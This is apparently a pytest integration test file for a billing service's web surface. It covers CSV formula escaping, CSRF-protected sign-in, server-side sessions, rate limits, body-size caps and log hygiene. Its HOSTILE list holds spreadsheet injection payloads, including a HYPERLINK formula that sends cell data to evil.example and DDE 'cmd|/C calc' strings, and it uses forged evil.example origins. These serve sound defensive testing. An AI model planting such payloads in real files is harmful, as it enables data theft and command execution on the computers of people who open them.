"""The web surface against the real app, real Redis and PostgreSQL (issue 14, item 7): CSV exports
escape formula cells; sign-in only through the form, same-origin and with a CSRF token, into a
server-side session (never the key) that sign-out and key revocation end; rate limits on /billing,
its exports and the sign-in form; a request body cap that chunked uploads cannot pass; no key in
access logs; an admin's credit reply without the end user's balance."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert, select, text

from models.turn import UsageEvent
from tests.billing_seed import mark_groups_dirty, seed
from tests.conftest import REPO, _env, auth, create_keys, free_port, seed_wallet, wait_healthy
from worker.db import session_scope

pytestmark = pytest.mark.integration

ORIGIN = "http://testserver"  # TestClient's own origin
SESSION_KEYS = "tollgate:websession:*"
#: hostile text cells: (column, value) — every OWASP formula start, the full-width forms, leading blanks
HOSTILE = [
    ("chat_id", '=HYPERLINK("http://evil.example/?"&A1,"open")'),
    ("workflow", "+SUM(1,2)"),
    ("agent", "@SUM(A1:A9)"),
    ("turn_id", "-2+3+cmd|' /C calc'!A0"),
    ("chat_id", "\t=1+1"),
    ("agent", "\r=1+1"),
    ("workflow", "\n=1+1"),
    ("agent", "\uff1d1+1"),  # full-width '='
    ("chat_id", "  =1+1"),
]
FORMULA_MODEL = "=cmd|'/C calc'!A0"


@pytest.fixture()
def seeded(db, redis_client):
    from api_stub import deps

    deps.get_gate.cache_clear()
    data = seed(db)
    yield data
    deps.get_gate.cache_clear()


@pytest.fixture()
def client(seeded):
    from api_stub.main import app

    return TestClient(app)


def _hostile_rows(db) -> list[dict]:
    """Insert, copied from a seeded gpt-4o event of w-alice, one usage event per hostile cell and one
    whose model is a formula, in 2026-11 (as rows stored before any input validation would be)."""
    ue = UsageEvent.__table__
    with db.connect() as conn:
        template = dict(
            conn.execute(
                select(ue).where(ue.c.wallet_id == "w-alice", ue.c.model == "gpt-4o").order_by(ue.c.id).limit(1)
            )
            .mappings()
            .one()
        )
    del template["id"]
    at = datetime(2026, 11, 20, tzinfo=UTC)
    rows = []
    for i, (column, value) in enumerate([*HOSTILE, ("model", FORMULA_MODEL)]):
        row = {
            **template,
            "turn_id": f"hostile-{i}",
            "outbox_id": f"9:{i}-0",
            "chat_id": f"h-{i}",
            "occurred_at": at + timedelta(minutes=i),
        }
        row[column] = value
        rows.append(row)
    with db.begin() as conn:
        conn.execute(insert(UsageEvent.__table__), rows)
        mark_groups_dirty(conn)
    return rows


def _records(body: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


TEXT_COLUMNS = ("turn_id", "chat_id", "workflow", "agent", "model")


def _check_escaped(records: list[dict], by_turn: dict[str, dict]) -> int:
    """Every hostile cell of the inserted rows reads back as ``'`` + the stored text, every other
    text cell as stored; returns how many hostile cells were checked."""
    hostile = {value for _, value in HOSTILE} | {FORMULA_MODEL}
    checked = 0
    for rec in records:
        stored = by_turn.get(rec["turn_id"].removeprefix("'"))
        if stored is None:
            continue
        for column in TEXT_COLUMNS:
            if stored[column] in hostile:
                assert rec[column] == "'" + stored[column], (column, rec[column])
                checked += 1
            else:
                assert rec[column] == stored[column], (column, rec[column])
        assert int(rec["cost_nanos"]) == stored["cost_nanos"]  # numbers stay numbers
    return checked


# 1. CSV injection ------------------------------------------------------------------------------------
def test_every_csv_export_escapes_formula_cells(client, seeded, db):
    rows = _hostile_rows(db)
    by_turn = {r["turn_id"]: r for r in rows}
    owner = auth(seeded.keys["owner"])

    billing = client.get("/billing/export.csv?period=2026-11", headers=owner)
    assert billing.status_code == 200, billing.text
    assert _check_escaped(_records(billing.text), by_turn) == len(HOSTILE) + 1

    usage, cursor = [], None
    while True:
        r = client.get(
            "/v1/usage?period=2026-11&format=csv&limit=5000" + (f"&cursor={cursor}" if cursor else ""), headers=owner
        )
        assert r.status_code == 200, r.text
        usage += _records(r.text)
        cursor = r.headers.get("x-next-cursor")
        if cursor is None:
            break
    assert _check_escaped(usage, by_turn) == len(HOSTILE) + 1

    # the admin's aggregate lines (provider × model × meter): the formula model is escaped too
    admin = client.get("/billing/export.csv?period=2026-11&enterprise_id=acme", headers=auth(seeded.keys["admin"]))
    lines = _records(admin.text)
    assert [line["model"] for line in lines if "cmd" in line["model"]] == ["'" + FORMULA_MODEL]
    # nothing else in any export starts a formula
    for rec in (*_records(billing.text), *usage, *lines):
        for value in rec.values():
            assert not value or value[0] not in "=+@\t\r\n\uff1d" and not value.lstrip().startswith("="), value


def test_csv_cells_keep_plain_numbers_and_escape_the_rest():
    from api_stub.csv_cells import safe_cell

    assert [safe_cell(v) for v in ("-12", "+3.5", "-0.000000001", -5, 0, True, "ok", "")] == [
        "-12",
        "+3.5",
        "-0.000000001",
        -5,
        0,
        True,
        "ok",
        "",
    ]
    assert [safe_cell(v) for v in ("-1+1", "- 1", "+A1", "@x", " @x", "\uff0b1", "\uff20x", "\uff0d1")] == [
        "'-1+1",
        "'- 1",
        "'+A1",
        "'@x",
        "' @x",
        "'\uff0b1",
        "'\uff20x",
        "'\uff0d1",
    ]
    assert safe_cell(datetime(2026, 11, 1, tzinfo=UTC)) == "2026-11-01T00:00:00+00:00"
    # every compatibility form of a formula character (small, super/subscript …), also after
    # invisible format characters; a "number" in other scripts' digits is not a plain number
    for value in (
        "\ufe66cmd|x",
        "\u207c1+1",
        "\ufe62A1",
        "\u208a1",
        "\ufe6bSUM(A1)",
        "\u200b=1+1",
        "\ufeff@x",
        "\u2060 -1+1",
        "-\u0661",
        "+\u0967\u0968",
    ):
        assert safe_cell(value) == "'" + value, value
    assert [safe_cell(v) for v in ("\u200b", "\ufeff", " ", "a=1")] == ["\u200b", "\ufeff", " ", "a=1"]


def test_the_formula_characters_are_every_compatibility_form_of_one():
    import sys
    import unicodedata

    from api_stub.csv_cells import FORMULA_CHARS

    forms = {chr(c) for c in range(sys.maxunicode + 1) if unicodedata.normalize("NFKC", chr(c))[:1] in tuple("=+-@")}
    assert forms == FORMULA_CHARS


def test_a_cr_or_lf_inside_a_cell_is_quoted():
    """The row stays one row in a spreadsheet."""
    from api_stub.csv_cells import csv_writer, safe_row

    buf = io.StringIO(newline="")
    csv_writer(buf).writerow(safe_row(["a\rb", "\r=1+1", "c\nd", 7]))
    assert buf.getvalue() == '"a\rb","\'\r=1+1","c\nd",7\r\n'
    assert list(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == [["a\rb", "'\r=1+1", "c\nd", "7"]]


# 2. sign-in ------------------------------------------------------------------------------------------
def _csrf(client: TestClient) -> str:
    form = client.get("/billing/login")
    assert form.status_code == 200
    token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
    assert client.cookies.get("tollgate_csrf") == token
    return token


def _sign_in(client: TestClient, key: str, **headers) -> httpx.Response:
    token = _csrf(client)
    return client.post(
        "/billing/login",
        data={"key": key, "csrf_token": token, "next": "/billing?period=2026-11"},
        headers={"Origin": ORIGIN, **headers},
        follow_redirects=False,
    )


def test_a_key_in_the_url_never_signs_in(client, seeded, redis_client):
    key = seeded.keys["owner"]
    page = client.get(f"/billing?period=2026-11&key={key}", follow_redirects=False)
    assert page.status_code == 400 and 'name="csrf_token"' in page.text  # the sign-in form, with why
    assert "key: an API key in the URL is never accepted" in page.text
    assert "tollgate_session" not in page.headers.get("set-cookie", "") and key not in page.headers.get(
        "set-cookie", ""
    )
    assert redis_client.keys(SESSION_KEYS) == []
    for kind in ("csv", "json", "pdf"):
        r = client.get(f"/billing/export.{kind}?period=2026-11&key={key}")
        assert r.status_code == 400 and r.json()["errors"][0]["field"] == "key", r.text
    assert client.get("/billing?period=2026-11").status_code == 401  # still signed out


def test_sign_in_needs_this_site_s_origin_and_csrf_token(client, seeded, redis_client):
    key = seeded.keys["owner"]
    token = _csrf(client)
    body = {"key": key, "csrf_token": token}
    refused = [
        client.post("/billing/login", data=body, follow_redirects=False),  # neither Origin nor Referer
        client.post("/billing/login", data=body, headers={"Origin": "https://evil.example"}, follow_redirects=False),
        client.post(
            "/billing/login",
            data=body,
            headers={"Origin": "null", "Referer": "https://evil.example/x"},
            follow_redirects=False,
        ),
        client.post("/billing/login", data={"key": key}, headers={"Origin": ORIGIN}, follow_redirects=False),
        client.post(
            "/billing/login",
            data={**body, "csrf_token": token[:-2] + "xx"},
            headers={"Origin": ORIGIN},
            follow_redirects=False,
        ),
    ]
    assert [r.status_code for r in refused] == [403] * 5
    assert "Origin: the request carries neither Origin nor Referer" in refused[0].text
    assert "Origin: &#39;https://evil.example&#39; is not this site (http://testserver)" in refused[1].text
    assert "csrf_token: the sign-in form is stale" in refused[3].text
    assert all("tollgate_session" not in r.headers.get("set-cookie", "") for r in refused)
    assert redis_client.keys(SESSION_KEYS) == []
    # a token in the form without the browser's cookie (a forged form) is refused too
    from api_stub.main import app

    assert (
        TestClient(app)
        .post("/billing/login", data=body, headers={"Origin": ORIGIN}, follow_redirects=False)
        .status_code
        == 403
    )
    assert redis_client.keys(SESSION_KEYS) == []
    # same origin by Referer only (no Origin header) is accepted
    ok = client.post(
        "/billing/login",
        data={**body, "next": "/billing?period=2026-11"},
        headers={"Referer": f"{ORIGIN}/billing/login"},
        follow_redirects=False,
    )
    assert ok.status_code == 303 and ok.headers["location"] == "/billing?period=2026-11"


def test_the_cookie_holds_a_server_side_session_never_the_key(client, seeded, redis_client, settings):
    key = seeded.keys["owner"]
    r = _sign_in(client, key)
    assert r.status_code == 303, r.text
    cookie = next(c for c in r.headers.get_list("set-cookie") if c.startswith("tollgate_session="))
    session_id = cookie.split(";")[0].split("=", 1)[1]
    assert key not in cookie and len(session_id) >= 43
    assert "HttpOnly" in cookie and "Path=/billing" in cookie and "SameSite=lax" in cookie
    assert "Secure" not in cookie  # plain http here; https below
    assert f"Max-Age={settings.billing_session_ttl_s}" in cookie
    [stored] = redis_client.keys(SESSION_KEYS)
    assert session_id not in stored  # stored under the id's SHA-256
    data = redis_client.hgetall(stored)
    assert data["key_prefix"] == key.split("_")[1] and key not in json.dumps(data)
    assert 0 < redis_client.ttl(stored) <= settings.billing_session_ttl_s == 8 * 3600
    for k in redis_client.keys("*"):  # the key is nowhere in Redis
        if redis_client.type(k) == "hash":
            assert key not in json.dumps(redis_client.hgetall(k))
    page = client.get("/billing?period=2026-11")
    assert page.status_code == 200 and 'data-nanos="34028590300"' in page.text
    assert client.get("/billing/export.json?period=2026-11").json()["report"]["total"]["cost_nanos"] == 34_028_590_300
    # signing in again from this browser replaces its session (the old one ends)
    assert _sign_in(client, seeded.keys["end_user"]).status_code == 303
    [replaced] = redis_client.keys(SESSION_KEYS)
    assert replaced != stored and redis_client.hget(replaced, "key_prefix") == seeded.keys["end_user"].split("_")[1]
    # a guessed session id is no sign-in
    guess = TestClient(client.app, cookies={"tollgate_session": "x" * 43})
    assert guess.get("/billing?period=2026-11").status_code == 401


def test_session_cookie_is_secure_over_https_and_lasts_the_configured_ttl(seeded, redis_client, settings, monkeypatch):
    from api_stub.main import app

    monkeypatch.setattr(settings, "billing_session_ttl_s", 600)
    secure = TestClient(app, base_url="https://testserver")
    token = _csrf(secure)
    r = secure.post(
        "/billing/login",
        data={"key": seeded.keys["owner"], "csrf_token": token},
        headers={"Origin": "https://testserver"},
        follow_redirects=False,
    )
    assert r.status_code == 303, r.text
    cookie = next(c for c in r.headers.get_list("set-cookie") if c.startswith("tollgate_session="))
    assert "Secure" in cookie and "HttpOnly" in cookie and "Max-Age=600" in cookie
    [stored] = redis_client.keys(SESSION_KEYS)
    assert 590 <= redis_client.ttl(stored) <= 600
    redis_client.delete(stored)  # what expiry does
    assert secure.get("/billing?period=2026-11").status_code == 401


def test_sign_out_ends_the_session_server_side(client, seeded, redis_client):
    assert _sign_in(client, seeded.keys["owner"]).status_code == 303
    old = client.cookies.get("tollgate_session")
    page = client.get("/billing?period=2026-11")
    token = re.search(
        r'action="/billing/logout"[^>]*>\s*<input type="hidden" name="csrf_token" value="([^"]+)"', page.text
    ).group(1)
    # a sign-out from another site, or without the page's token, is refused and changes nothing
    assert (
        client.post(
            "/billing/logout",
            data={"csrf_token": token},
            headers={"Origin": "https://evil.example"},
            follow_redirects=False,
        ).status_code
        == 403
    )
    assert (
        client.post("/billing/logout", data={}, headers={"Origin": ORIGIN}, follow_redirects=False).status_code == 403
    )
    assert len(redis_client.keys(SESSION_KEYS)) == 1
    out = client.post("/billing/logout", data={"csrf_token": token}, headers={"Origin": ORIGIN}, follow_redirects=False)
    assert out.status_code == 303 and out.headers["location"] == "/billing/login"
    assert redis_client.keys(SESSION_KEYS) == []
    assert client.get("/billing?period=2026-11").status_code == 401  # the browser's cookie is cleared
    copy = TestClient(client.app, cookies={"tollgate_session": old})  # a copy of the cookie is worth nothing now
    again = copy.get("/billing?period=2026-11")
    assert again.status_code == 401 and "your sign-in has ended" in again.text


def test_revoking_the_key_ends_its_sessions(seeded, redis_client, db):
    from api_stub.main import app
    from worker.access.apikeys import revoke_key

    browsers = [TestClient(app), TestClient(app)]
    for b in browsers:
        assert _sign_in(b, seeded.keys["owner"]).status_code == 303
    other = TestClient(app)
    assert _sign_in(other, seeded.keys["end_user"]).status_code == 303
    assert len(redis_client.keys(SESSION_KEYS)) == 3
    with session_scope() as session:
        assert revoke_key(session, seeded.keys["owner"].split("_")[1])
    assert len(redis_client.keys(SESSION_KEYS)) == 1  # the owner key's two sessions are gone at once
    for b in browsers:
        assert b.get("/billing?period=2026-11").status_code == 401
    assert other.get("/billing?period=2026-11").status_code == 200
    # revoked straight in SQL (no Redis marker, no session cleanup): refused on the next request all the same
    with db.begin() as conn:
        conn.execute(
            text("UPDATE api_key SET revoked_at = now() WHERE prefix = :p"),
            {"p": seeded.keys["end_user"].split("_")[1]},
        )
    r = other.get("/billing?period=2026-11")
    assert r.status_code == 401 and "the API key was revoked" in r.text
    assert redis_client.keys(SESSION_KEYS) == []


# 3. rate limits --------------------------------------------------------------------------------------
def test_billing_page_and_exports_count_against_the_key_s_rate_limit(client, seeded, settings, monkeypatch):
    monkeypatch.setattr(settings, "rate_limit", "4/minute")
    owner, other = auth(seeded.keys["owner"]), auth(seeded.keys["other_owner"])
    for path in ("/billing", "/billing/export.csv", "/billing/export.json", "/billing/export.pdf"):
        assert client.get(f"{path}?period=2026-11", headers=owner).status_code == 200, path
    for path in ("/billing/export.csv", "/billing/export.json", "/billing/export.pdf"):
        r = client.get(f"{path}?period=2026-11", headers=owner)
        assert r.status_code == 429 and r.headers["content-type"] == "application/problem+json", path
        assert 1 <= int(r.headers["retry-after"]) <= 60
    page = client.get("/billing?period=2026-11", headers=owner)
    assert page.status_code == 429 and "Too Many Requests" in page.text and int(page.headers["retry-after"]) >= 1
    # the same limit as the API: the key is over it there too; another key is not
    assert client.get("/v1/usage?period=2026-11", headers=owner).status_code == 429
    assert client.get("/billing/export.json?period=2026-11", headers=other).status_code == 200
    # a signed-in browser counts against its key as well
    browser = TestClient(client.app)
    assert _sign_in(browser, seeded.keys["other_owner"]).status_code == 303
    codes = [browser.get("/billing?period=2026-11").status_code for _ in range(4)]
    assert codes == [200, 200, 200, 429]


def test_sign_in_attempts_are_limited_per_client_ip(seeded, redis_client, settings, monkeypatch):
    from api_stub.main import app

    monkeypatch.setattr(settings, "billing_login_rate_limit", "3/minute")
    attacker = TestClient(app, client=("203.0.113.7", 50000))
    token = _csrf(attacker)
    guesses = [
        attacker.post(
            "/billing/login",
            data={"key": f"tg_{i:012d}_guess", "csrf_token": token},
            headers={"Origin": ORIGIN},
            follow_redirects=False,
        )
        for i in range(3)
    ]
    assert [g.status_code for g in guesses] == [401, 401, 401]
    # the fourth attempt from that address is refused, even with the right key
    r = attacker.post(
        "/billing/login",
        data={"key": seeded.keys["owner"], "csrf_token": token},
        headers={"Origin": ORIGIN},
        follow_redirects=False,
    )
    assert r.status_code == 429 and 1 <= int(r.headers["retry-after"]) <= 60
    assert "Too many sign-in attempts" in r.text and redis_client.keys(SESSION_KEYS) == []
    # another address is not affected
    assert _sign_in(TestClient(app, client=("198.51.100.9", 50000)), seeded.keys["owner"]).status_code == 303


# 4. request body cap ---------------------------------------------------------------------------------
@pytest.fixture()
def api(http_api, gate):
    seed_wallet(gate, "w1", "acme", "u1", 10**9)
    seed_wallet(gate, "x1", "other", "x")
    return http_api(create_keys({"owner": ("owner", "acme"), "admin": ("admin",)}))


TURN = {
    "turn_id": "t-1",
    "wallet_id": "w1",
    "enterprise_id": "acme",
    "chat_id": "c1",
    "agent": "planner",
    "workflow": "support",
    "model": "gpt-4o",
    "provider": "openai",
    "prompt_tokens": 1000,
    "completion_tokens": 100,
    "occurred_at": "2026-11-01T12:00:00Z",
}


def _batch(n: int, pad: int = 0) -> bytes:
    return json.dumps(
        {"turns": [{**TURN, "turn_id": f"t-{i}", "agent": "a" * pad or "planner"} for i in range(n)]}
    ).encode()


def _nothing_recorded(gate) -> None:
    from worker.gate.keys import outbox_key

    assert gate.balance("w1") == 10**9
    assert sum(gate.redis.xlen(outbox_key(shard)) for shard in range(gate.settings.outbox_shards)) == 0


def test_bodies_over_the_cap_get_413_naming_the_limit(api, gate, settings):
    body = _batch(1, pad=1_048_576)
    r = api.post("/v1/turns/batch", content=body, headers={**api.h["owner"], "Content-Type": "application/json"})
    assert r.status_code == 413 and r.headers["content-type"] == "application/problem+json"
    assert r.json()["errors"] == [
        {"field": "body", "message": "the request body exceeds the limit of 1048576 bytes (TOLLGATE_MAX_BODY_BYTES)"}
    ]
    _nothing_recorded(gate)
    # every route, signed in or not: the credit endpoint, the sign-in form, the Stripe webhook
    for path in ("/v1/wallets/w1/credits", "/billing/login", "/v1/stripe/webhook", "/v1/turns"):
        r = api.post(path, content=b"x" * 1_048_577, headers=api.h["owner"])
        assert r.status_code == 413, (path, r.text)
    _nothing_recorded(gate)
    assert settings.max_body_bytes == 1_048_576  # the default


def test_a_chunked_body_cannot_pass_the_cap(api, gate, settings, monkeypatch):
    monkeypatch.setattr(settings, "max_body_bytes", 4096)
    body = _batch(40)
    assert len(body) > 4096

    def chunks():  # no Content-Length: Transfer-Encoding: chunked
        for i in range(0, len(body), 1000):
            yield body[i : i + 1000]

    r = api.post("/v1/turns/batch", content=chunks(), headers={**api.h["owner"], "Content-Type": "application/json"})
    assert r.status_code == 413 and "4096 bytes" in r.json()["detail"], r.text
    _nothing_recorded(gate)
    small = _batch(3)
    ok = api.post(
        "/v1/turns/batch",
        content=iter([small[:100], small[100:]]),
        headers={**api.h["owner"], "Content-Type": "application/json"},
    )
    assert ok.status_code == 200 and ok.json()["count"] == 3


def _procfile_web() -> list[str]:
    line = next(row for row in (REPO / "Procfile").read_text().splitlines() if row.startswith("web:"))
    return line.removeprefix("web:").split()


def _compose_web() -> list[str]:
    text_ = (REPO / "docker-compose.yml").read_text()
    block = text_[text_.index("\n  web:") :]
    return json.loads(re.search(r"command: (\[.*\])", block).group(1))


# 5. no key in access logs; a real server, chunked over the wire --------------------------------------
def test_the_web_process_logs_no_keys_and_refuses_chunked_bodies_over_the_cap(api, gate):
    assert "--no-access-log" in _procfile_web() and "--no-access-log" in _compose_web()
    port = free_port()
    args = [a.replace("${PORT:-8000}", str(port)).replace("0.0.0.0", "127.0.0.1") for a in _procfile_web()]
    assert args[:3] == ["python", "-m", "api_stub.serve"]  # uvicorn's command line, a socket per worker
    env = {**_env(), "TOLLGATE_MAX_BODY_BYTES": "4096"}
    proc = subprocess.Popen(
        [sys.executable, *args[1:], "--log-level", "info"],
        cwd=REPO,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(proc, base)
        key = api.keys["owner"]
        assert httpx.get(f"{base}/billing?key={key}").status_code == 400
        assert httpx.get(f"{base}/billing/export.csv?period=2026-11", headers=auth(key)).status_code == 200
        body = _batch(40)
        r = httpx.post(
            f"{base}/v1/turns/batch",
            content=iter([body[i : i + 512] for i in range(0, len(body), 512)]),
            headers={**auth(key), "Content-Type": "application/json"},
            timeout=10,
        )
        assert r.status_code == 413 and r.json()["errors"][0]["field"] == "body"
        _nothing_recorded(gate)
    finally:
        proc.terminate()
        output = proc.communicate(timeout=10)[0].decode()
    assert "Uvicorn running" in output  # the log was captured
    secret = key.split("_", 2)[2]  # tg_<prefix>_<secret>; the secret itself may hold "_" (urlsafe base64)
    assert secret and key not in output and secret not in output and "GET /billing" not in output


# 6. an admin's credit reply -----------------------------------------------------------------------------
def test_an_admin_s_credit_reply_discloses_no_end_user_balance(api, gate, db):
    r = api.post(
        "/v1/wallets/w1/credits", json={"amount_nanos": 7, "idempotency_key": "grant-7"}, headers=api.h["admin"]
    )
    assert r.status_code == 200, r.text
    assert r.json() == {
        "wallet_id": "w1",
        "amount_nanos": 7,
        "idempotency_key": "grant-7",
        "balance_nanos": None,
        "replayed": False,
    }
    replay = api.post(
        "/v1/wallets/w1/credits", json={"amount_nanos": 7, "idempotency_key": "grant-7"}, headers=api.h["admin"]
    )
    assert replay.json()["balance_nanos"] is None and replay.json()["replayed"] is True
    assert gate.balance("w1") == 10**9 + 7  # credited once
    # the app's owner still gets the balance after its own credit
    own = api.post(
        "/v1/wallets/w1/credits", json={"amount_nanos": 3, "idempotency_key": "top-3"}, headers=api.h["owner"]
    )
    assert own.json()["balance_nanos"] == 10**9 + 10
    # no other admin route gives one end user's detail
    assert api.get("/v1/wallets/w1", headers=api.h["admin"]).status_code == 404
    assert api.get("/v1/wallets/w1/ledger", headers=api.h["admin"]).status_code == 404
    assert api.get("/v1/usage?period=2026-11", headers=api.h["admin"]).status_code == 403
